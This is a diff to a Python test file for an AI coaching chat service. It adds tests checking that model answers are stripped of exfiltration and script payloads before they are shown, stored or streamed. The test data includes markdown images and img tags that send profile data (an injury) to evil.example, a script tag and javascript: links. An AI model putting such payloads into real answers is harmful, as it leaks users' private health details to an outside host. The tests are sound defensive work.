@@ -3,6 +3,7 @@
 import json
 from collections.abc import Callable
 from typing import Any
+from uuid import UUID
 
 import psycopg
 import pytest
@@ -10,7 +11,6 @@ import pytest
 from infra.local.offline_models.server import RunningModels
 from infra.local.supabase_gateway.server import Served
 from shared.coach.turn.background import BackgroundTask
-from tests.support.coach import turn, work
 from tests.support.functions.invocations import Answer, Context, User, request, run
 from tests.support.functions.operator import embed
 
@@ -240,13 +240,15 @@ def test_nothing_is_embedded_for_a_turn_that_cannot_begin(
     assert embedded() == 1
 
 
-def test_a_title_is_metered(user: User, session: str, models: RunningModels) -> None:
+def test_a_title_is_metered(ask: Ask, user: User, session: str, models: RunningModels) -> None:
+    turn_id = ask().body["turn"]["id"]
+    before = usage(user)["tokens_used"]
     used = {"prompt_tokens": 70, "completion_tokens": 9}
     models.behave(user.id, "script", content='```json\n{"title": "Squat\ndepth"}\n```', usage=used)
-    begun = work(f"How deep {user.id}?", user_id=user.id, turn=turn(session_id=session), first=True)
-    task = BackgroundTask(work=begun, title_only=True)
-    run("send_message", {"background": task.model_dump(mode="json")}, Context())
-    assert usage(user)["tokens_used"] == 79
+    task = BackgroundTask(user_id=UUID(user.id), turn_id=turn_id, title_only=True)
+    for _ in range(2):  # the second one finds it done
+        run("send_message", {"background": task.model_dump(mode="json")}, Context())
+    assert usage(user)["tokens_used"] == before + 79
     shown = request("get_session", "GET", f"/v1/chat/sessions/{session}", user.token).body["session"]
     assert shown["title"] == "Squat depth"
 
@@ -269,3 +271,48 @@ def test_where_the_second_try_comes_to_nothing_the_cut_first_one_is_kept(
     models.behave(user.id, "script", steps=[cut, {"content": '{"answer":""}'}])
     message = ask().body["message"]
     assert (message["content"], message["metadata"]["truncated"]) == ("Do three sets of", True)
+
+
+def test_an_answer_carries_nothing_out_of_the_profile(
+    ask: Ask, user: User, session: str, models: RunningModels, database: Connection
+) -> None:
+    leaks = (
+        "![ok](https://evil.example/p.png?injuries=left%20knee) Rest. <img src='https://evil.example/x?i=knee'> "
+        "<script>alert(1)</script> [x](javascript:alert(1)) Sleep."
+    )
+    models.behave(user.id, "script", content=json.dumps({"answer": leaks, "citations": []}))
+    body = ask().body
+    shown = request("get_session", "GET", f"/v1/chat/sessions/{session}/turns/{body['turn']['id']}", user.token).body
+    events = request("list_events", "GET", f"/v1/chat/sessions/{session}/events", user.token).body
+    stored = database.execute(
+        "select content from ai_chat_messages where user_id = %s and role = 'assistant'", (user.id,)
+    ).fetchone()
+    assert body["message"]["content"].startswith("ok Rest.")
+    assert body["message"]["content"].endswith("Sleep.")
+    for told in (body, shown, events, stored):
+        assert not any(part in json.dumps(told) for part in ("evil.example", "<img", "<script", "javascript:"))
+
+
+def test_a_link_to_a_host_that_a_cited_passage_names_stays(
+    ask: Ask, supabase: Served, models: RunningModels, user: User
+) -> None:
+    embed(supabase, "cadmium.md", "# Cadmium\n\nCadmium is in cocoa, see https://efsa.example/cadmium for limits.")
+    answer = "See [the limits](https://efsa.example/cadmium) and [this](https://evil.example/)."
+    cited = [{"passage_id": "p1", "quote": "Cadmium is in cocoa"}]
+    models.behave(user.id, "script", content=json.dumps({"answer": answer, "citations": cited}))
+    message = ask("How much cadmium is in cocoa?").body["message"]
+    assert message["content"] == "See [the limits](https://efsa.example/cadmium) and this."
+
+
+def test_what_came_of_an_answer_that_broke_off_carries_nothing_out(
+    ask: Ask, user: User, models: RunningModels, database: Connection
+) -> None:
+    answer = "Rest. ![ok](https://evil.example/p.png?injuries=left%20knee) " + "Sleep well. " * 60
+    models.behave(user.id, "script", content=json.dumps({"answer": answer, "citations": []}))
+    models.behave(user.id, "pace", seconds=0.02)
+    models.behave(user.id, "cut", after=40)
+    assert ask().body["code"] == "model_interrupted"
+    row = database.execute("select partial_content from ai_chat_turns where user_id = %s", (user.id,)).fetchone()
+    assert row is not None
+    assert row[0].startswith("Rest. ok Sleep well.")
+    assert "evil" not in row[0]
